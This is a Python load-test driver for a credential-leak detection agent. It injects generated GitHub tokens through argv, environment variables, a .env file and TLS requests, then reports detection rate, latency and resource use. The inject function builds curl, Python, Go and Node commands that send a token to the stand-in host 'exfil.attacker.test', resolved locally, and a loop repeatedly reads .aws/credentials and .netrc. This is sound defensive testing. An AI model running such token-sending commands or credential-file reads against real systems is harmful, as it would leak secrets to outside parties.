#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
"""bench/load's helper (see bench/load): the load's HTTPS server and python client, the
file-open storm, the rotating injector with the agent's CPU/RSS sampler and the findings
file's tailer, and the report.

  load_driver.py server PORT CERT KEY          HTTP/1.1 keep-alive HTTPS server (load + sends)
  load_driver.py pyload PORT                    python keep-alive requests and uploads, forever
  load_driver.py tlsonce PORT HOST              one request, token (stdin) in a header to HOST
  load_driver.py fileload HOME UNWATCHED_DIR    open/read watched and unwatched files, forever
  load_driver.py inject TMP APID SECONDS INTERVAL_MS TLSPORT METRICSPORT CLIENTS...
  load_driver.py report TMP

Tokens are generated here, kept in memory, passed to the injected processes by argv, env, a
watched file or stdin (the TLS clients), and written only to TMP/secrets (0600, in the bench's
0700 directory) for bench/load's leak check; never printed.
"""
import hashlib
import hmac
import http.client
import json
import os
import ssl
import statistics
import subprocess
import sys
import threading
import time
import urllib.request
from datetime import datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, os.path.join(ROOT, "tests", "e2e"))
from cwtest import github_token  # noqa: E402

EVIL = "exfil.attacker.test"	# the injected sends' Host and SNI: a destination of no workload
KINDS = ("argv", "env", "file", "tls")
PATH = "/usr/bin:/bin"


# --- load: server and clients -------------------------------------------------------------
class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def _answer(self):
        n = int(self.headers.get("Content-Length") or 0)
        while n > 0:
            got = self.rfile.read(min(n, 1 << 16))
            if not got:
                break
            n -= len(got)
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")

    do_GET = do_POST = do_PUT = _answer

    def log_message(self, *a):
        pass


def server(port, cert, key):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cert, key)
    srv = ThreadingHTTPServer(("127.0.0.1", int(port)), Handler)
    srv.daemon_threads = True
    srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
    srv.serve_forever()


def client_ctx():
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx


def pyload(port):
    """Keep-alive GETs, a 256 KiB upload every 20th request, a new connection every 200."""
    body = os.urandom(256 << 10)
    ctx = client_ctx()
    while True:
        c = http.client.HTTPSConnection("127.0.0.1", int(port), context=ctx, timeout=30)
        try:
            for i in range(200):
                if i % 20 == 19:
                    c.request("POST", "/up", body=body)
                else:
                    c.request("GET", "/r%d" % i)
                c.getresponse().read()
        except (OSError, http.client.HTTPException):
            time.sleep(0.1)
        c.close()


def tlsonce(port, host):
    token = sys.stdin.readline().strip()
    c = http.client.HTTPSConnection("127.0.0.1", int(port), context=client_ctx(), timeout=30)
    c.request("GET", "/v1", headers={"Host": host, "Authorization": "token " + token})
    c.getresponse().read()
    c.close()


def fileload(home, unwatched):
    """Opens and reads, in turn, the temp HOME's .aws/credentials and .netrc (watched) and
    ten unwatched files, as fast as it goes (one process: no exec per open)."""
    watched = [os.path.join(home, ".aws", "credentials"), os.path.join(home, ".netrc")]
    others = [os.path.join(unwatched, "f%d.txt" % i) for i in range(10)]
    n = 0
    while True:
        for p in watched + others:
            with open(p, "rb") as f:
                f.read()
        n += 1
        if n % 50 == 0:
            time.sleep(0.01)	# leave the cores to the other loads now and then


# --- the injector ---------------------------------------------------------------------------
def fingerprint(key, secret):
    return hmac.new(key, secret.encode(), hashlib.sha256).hexdigest()


def ts_seconds(ts):
    """An ECS @timestamp (RFC 3339, Z) as seconds since the epoch."""
    return datetime.fromisoformat(ts.replace("Z", "+00:00")).timestamp()


class Tail(threading.Thread):
    """Reads the findings file as the agent writes it: per fingerprint, the findings' (arrival
    time, @timestamp, action, origin, has file, has destination)."""

    def __init__(self, path):
        super().__init__(daemon=True)
        self.path, self.lock, self.by_fp, self.lines = path, threading.Lock(), {}, 0

    def run(self):
        while not os.path.exists(self.path):
            time.sleep(0.01)
        f = open(self.path, "rb")
        buf = b""
        while True:
            chunk = f.read(1 << 16)
            if not chunk:
                try:	# rotated (bench/load asks for no rotation): on to the new file
                    if os.stat(self.path).st_ino != os.fstat(f.fileno()).st_ino:
                        f.close()
                        f, buf = open(self.path, "rb"), b""
                        continue
                except FileNotFoundError:
                    pass
                time.sleep(0.005)
                continue
            now = time.time()
            buf += chunk
            *lines, buf = buf.split(b"\n")
            for line in lines:
                if line.strip():
                    self.add(json.loads(line), now)

    def add(self, d, now):
        cred = d.get("credwatch", {}).get("credential", {})
        fp = cred.get("fingerprint")
        with self.lock:
            self.lines += 1
            if fp:
                self.by_fp.setdefault(fp, []).append(
                    (now, ts_seconds(d["@timestamp"]), d["event"]["action"], cred.get("origin"),
                     "file" in d, "destination" in d))


def expected(kind, f):
    """Is finding f (a Tail tuple) the one the injection of this kind should raise?"""
    _, _, action, origin, has_file, has_dest = f
    return {"argv": origin == "argv", "env": origin == "env", "file": has_file,
            "tls": has_dest}[kind]


class Sampler(threading.Thread):
    """The agent's utime+stime (seconds) and RSS (bytes) every 5 s."""

    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid, self.rows, self.stop = pid, [], threading.Event()
        self.tick = os.sysconf("SC_CLK_TCK")

    def sample(self):
        with open("/proc/%d/stat" % self.pid) as f:
            fields = f.read().rsplit(")", 1)[1].split()
        cpu = (int(fields[11]) + int(fields[12])) / self.tick	# utime, stime (fields 14, 15)
        with open("/proc/%d/status" % self.pid) as f:
            rss = next(int(l.split()[1]) * 1024 for l in f if l.startswith("VmRSS:"))
        self.rows.append((time.time(), cpu, rss))

    def run(self):
        while True:
            try:
                self.sample()
            except OSError:
                return
            if self.stop.wait(5):
                try:
                    self.sample()
                except OSError:
                    pass
                return


def inject(tmp, apid, secs, interval_ms, tlsport, metricsport, clients):
    key = open(os.path.join(tmp, "fp.key"), "rb").read()
    gobin = os.path.join(tmp, "goclient")
    node = ("const https=require('https');let t='';process.stdin.on('data',d=>t+=d);"
            "process.stdin.on('end',()=>{const r=https.request({host:'127.0.0.1',"
            "port:+process.argv[1],path:'/v1',servername:'%s',rejectUnauthorized:false,"
            "headers:{Host:'%s',Authorization:'token '+t.trim()}},res=>res.resume());"
            "r.on('error',()=>{});r.end();});" % (EVIL, EVIL))
    argvs = {
        "curl": ["curl", "-sk", "-o", "/dev/null", "-H", "@-", "--resolve",
                 "%s:%s:127.0.0.1" % (EVIL, tlsport), "https://%s:%s/v1" % (EVIL, tlsport)],
        "python": [sys.executable, os.path.abspath(__file__), "tlsonce", tlsport, EVIL],
        "go": [gobin, "once", "127.0.0.1:" + tlsport, EVIL],
        "node": ["node", "-e", node, tlsport],
    }
    files = os.path.join(tmp, "inj")
    os.makedirs(files, mode=0o700, exist_ok=True)
    tail = Tail(os.path.join(tmp, "out.json"))
    tail.start()
    sampler = Sampler(apid)
    sampler.start()
    procs, plock = [], threading.Lock()
    failed = {"n": 0}

    def reaper():
        while True:
            time.sleep(0.05)
            with plock:
                keep = []
                for p, t in procs:
                    rc = p.poll()
                    if rc is None and time.time() - t > 30:
                        p.kill()
                        rc = p.wait()
                    if rc is None:
                        keep.append((p, t))
                    elif rc:
                        failed["n"] += 1
                procs[:] = keep
    threading.Thread(target=reaper, daemon=True).start()

    rows, tokens = [], []
    env0 = {"PATH": PATH}
    t_start = time.monotonic()
    nxt = t_start
    seq = 0
    ntls = 0
    while time.monotonic() - t_start < secs:
        kind = KINDS[seq % len(KINDS)]
        tok = github_token()
        tokens.append(tok)
        client = ""
        stdin_data = None
        if kind == "argv":
            argv, env = ["/bin/true", "--token=" + tok], env0
        elif kind == "env":
            argv, env = ["/bin/true"], dict(env0, GITHUB_TOKEN=tok)
        elif kind == "file":
            d = os.path.join(files, str(seq))
            os.mkdir(d, 0o700)
            path = os.path.join(d, ".env")
            fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
            os.write(fd, ("GITHUB_TOKEN=%s\n" % tok).encode())
            os.close(fd)
            argv, env = ["cat", path], env0
        else:
            client = clients[ntls % len(clients)]
            ntls += 1
            argv, env = argvs[client], env0
            stdin_data = ("Authorization: token %s\n" % tok if client == "curl"
                          else tok + "\n").encode()
        t0 = time.time()
        try:
            p = subprocess.Popen(argv, env=env, stdout=subprocess.DEVNULL,
                                 stderr=subprocess.DEVNULL,
                                 stdin=subprocess.PIPE if stdin_data else subprocess.DEVNULL)
            if stdin_data:
                p.stdin.write(stdin_data)
                p.stdin.close()
            with plock:
                procs.append((p, t0))
        except OSError:
            failed["n"] += 1
        rows.append((seq, kind, client, t0, fingerprint(key, tok)))
        seq += 1
        nxt += interval_ms / 1000
        time.sleep(max(0, nxt - time.monotonic()))
    t_end = time.time()
    with open(os.path.join(tmp, "secrets"), "w", opener=lambda p, f: os.open(p, f, 0o600)) as f:
        f.writelines(t + "\n" for t in tokens)
    del tokens
    # drain: until every injection is found, or 15 s without a new finding (60 s at most)
    last, last_n = time.time(), -1
    while time.time() - t_end < 60:
        with tail.lock:
            n = sum(1 for _, kind, _, _, fp in rows
                    if any(expected(kind, f) for f in tail.by_fp.get(fp, [])))
        if n == len(rows):
            break
        if n != last_n:
            last, last_n = time.time(), n
        elif time.time() - last > 15:
            break
        time.sleep(0.2)
    with plock:
        pending = len(procs)
    try:
        metrics = urllib.request.urlopen("http://127.0.0.1:%s/metrics" % metricsport,
                                         timeout=10).read().decode()
    except OSError as e:
        metrics = "# scrape failed: %s\n" % e
    with open(os.path.join(tmp, "metrics.txt"), "w") as f:
        f.write(metrics)
    sampler.stop.set()
    sampler.join()
    with tail.lock:
        found = {fp: [f for f in fs] for fp, fs in tail.by_fp.items()}
        nlines = tail.lines
    with open(os.path.join(tmp, "result.json"), "w") as f:
        json.dump({"secs": secs, "interval_ms": interval_ms, "clients": clients,
                   "injections": rows, "findings": {r[4]: found.get(r[4], []) for r in rows},
                   "lines": nlines, "failed_injections": failed["n"],
                   "unreaped_injections": pending, "samples": sampler.rows}, f)


# --- the report -----------------------------------------------------------------------------
def pct(v, q):
    v = sorted(v)
    return v[min(len(v) - 1, int(len(v) * q))]


def report(tmp):
    r = json.load(open(os.path.join(tmp, "result.json")))
    rows, found = r["injections"], r["findings"]
    per = {}
    lat_ts, lat_arr, missed = [], [], []
    for seq, kind, client, t0, fp in rows:
        k = kind + ("/" + client if client else "")
        hits = [f for f in found.get(fp, []) if expected(kind, f)]
        for key in (kind, k) if client else (kind,):
            n, ok = per.get(key, (0, 0))
            per[key] = (n + 1, ok + bool(hits))
        if hits:
            first = min(hits, key=lambda f: f[0])
            lat_arr.append((first[0] - t0) * 1000)
            lat_ts.append((min(f[1] for f in hits) - t0) * 1000)
        else:
            missed.append((seq, k, t0, sorted({f[2] for f in found.get(fp, [])})))
    n = len(rows)
    ok = n - len(missed)
    rate = ok / n if n else 0
    print("injected %d credentials in %d s (one every %d ms; TLS clients: %s); %d injected "
          "processes exited non-zero, %d still running at the end; %d finding lines in the file"
          % (n, r["secs"], r["interval_ms"], ", ".join(r["clients"]), r["failed_injections"],
             r["unreaped_injections"], r["lines"]))
    print("| kind | injected | found | rate |")
    print("|---|---|---|---|")
    for key in sorted(per, key=lambda k: (KINDS.index(k.split("/")[0]), k)):
        a, b = per[key]
        print("| %s | %d | %d | %.4f |" % (key, a, b, b / a))
    print("| **all** | %d | %d | **%.4f** |" % (n, ok, rate))
    for seq, k, t0, acts in missed[:20]:
        print("missed: #%d %s at +%.1f s (other findings of it: %s)"
              % (seq, k, t0 - rows[0][3], ", ".join(acts) or "none"))
    if len(missed) > 20:
        print("missed: ... %d more" % (len(missed) - 20))
    if lat_ts:
        print("alert latency, injection -> @timestamp: p50 %.1f ms, p99 %.1f ms, max %.1f ms; "
              "-> line in the file: p50 %.1f ms, p99 %.1f ms, max %.1f ms"
              % (pct(lat_ts, .5), pct(lat_ts, .99), max(lat_ts), pct(lat_arr, .5),
                 pct(lat_arr, .99), max(lat_arr)))
    s = r["samples"]
    cpu = [(b[1] - a[1]) / (b[0] - a[0]) * 100 for a, b in zip(s, s[1:]) if b[0] > a[0]]
    rss = [x[2] / (1 << 20) for x in s]
    if cpu:
        print("agent CPU per 5 s sample (%% of one core): min %.1f, median %.1f, max %.1f; "
              "%.1f s CPU in %.0f s" % (min(cpu), statistics.median(cpu), max(cpu),
                                         s[-1][1] - s[0][1], s[-1][0] - s[0][0]))
    if rss:
        print("agent RSS per 5 s sample (MiB): min %.1f, median %.1f, max %.1f (%d samples; "
              "bound 128)" % (min(rss), statistics.median(rss), max(rss), len(rss)))
    if s:	# over time: every 6th sample (30 s)
        print("agent RSS (MiB) / CPU (% of one core, the 5 s before) every 30 s: " + ", ".join(
            "+%.0fs %.1f/%.0f" % (s[i][0] - s[0][0], s[i][2] / (1 << 20), cpu[i - 1] if i else 0)
            for i in range(0, len(s), 6)))
    drops, received, other = {}, {}, []
    for line in open(os.path.join(tmp, "metrics.txt")):
        if line.startswith("#"):
            continue
        for name, d in (("credwatch_events_dropped_total{", drops),
                        ("credwatch_events_received_total{", received)):
            if line.startswith(name):
                kind = line.split('kind="', 1)[1].split('"', 1)[0]
                d[kind] = int(float(line.split()[-1]))
        if line.startswith(("credwatch_output_dropped_total", "credwatch_events_malformed_total",
                            "credwatch_first_exec_", "credwatch_alerts_suppressed_total",
                            "credwatch_tls_attach_")):
            other.append(line.strip())
    if not received:
        print("metrics: " + open(os.path.join(tmp, "metrics.txt")).readline().strip())
    print("kernel events, metrics at the end: received / dropped per kind: " + ", ".join(
        "%s %d/%d" % (k, received.get(k, 0), drops.get(k, 0)) for k in received)
        + "; dropped in all: %d" % sum(drops.values()))
    for line in other:
        print("  " + line)
    ok_rss = bool(rss) and max(rss) <= 128
    print("detection rate %.4f (target >= 0.999): %s; RSS <= 128 MiB: %s"
          % (rate, "met" if rate >= 0.999 else "NOT MET", "met" if ok_rss else "NOT MET"))
    return 0 if rate >= 0.999 and ok_rss else 1


def main(a):
    if a[0] == "server":
        server(*a[1:4])
    elif a[0] == "pyload":
        pyload(a[1])
    elif a[0] == "tlsonce":
        tlsonce(a[1], a[2])
    elif a[0] == "fileload":
        fileload(a[1], a[2])
    elif a[0] == "inject":
        inject(a[1], int(a[2]), int(a[3]), int(a[4]), a[5], a[6], a[7:])
    elif a[0] == "report":
        sys.exit(report(a[1]))
    else:
        sys.exit("load_driver.py: unknown mode " + a[0])


if __name__ == "__main__":
    try:
        main(sys.argv[1:])
    except (KeyboardInterrupt, BrokenPipeError):
        sys.exit(130)
